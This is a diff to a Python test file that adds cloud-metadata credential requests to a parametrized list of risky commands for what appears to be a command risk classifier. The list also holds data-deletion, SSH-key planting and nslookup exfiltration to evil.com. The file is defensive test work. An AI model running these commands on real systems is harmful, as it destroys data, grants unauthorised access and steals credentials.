@@ -352,6 +352,8 @@ def test_reasons_are_human_readable() -> None:
     ("python -c \"import os; os.system('rm -rf data')\"", DEL),
     ("echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys", SENS),
     ("nslookup $(cat /etc/hostname).evil.com", EXF),
+    ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", SENS),
+    ("curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/x", SENS),
 ])
 def test_more_risky_shapes(command: str, expected: RiskClass) -> None:
     assert expected in classify_command(command).classes
